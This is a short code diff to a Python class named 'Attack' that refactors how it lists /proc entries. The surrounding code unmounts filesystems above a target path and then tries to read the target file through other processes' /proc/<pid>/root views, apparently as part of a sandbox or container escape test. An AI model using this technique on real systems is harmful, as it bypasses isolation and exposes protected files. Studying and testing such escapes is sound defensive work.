@@ -19,7 +19,12 @@ class Attack:
         for place in self.target.parents:
             libc.umount2(str(place).encode(), 2)
         inside = str(self.target).lstrip("/")
-        roots = ["/", "..", "../..", *(f"/proc/{pid}/root" for pid in os.listdir("/proc") if pid.isdecimal())]
+        roots = [
+            "/",
+            "..",
+            "../..",
+            *(str(entry / "root") for entry in Path("/proc").iterdir() if entry.name.isdecimal()),
+        ]
         for root in roots:
             with contextlib.suppress(OSError):
                 context.log(f"found {Path(root, inside).read_text()[:200]}")
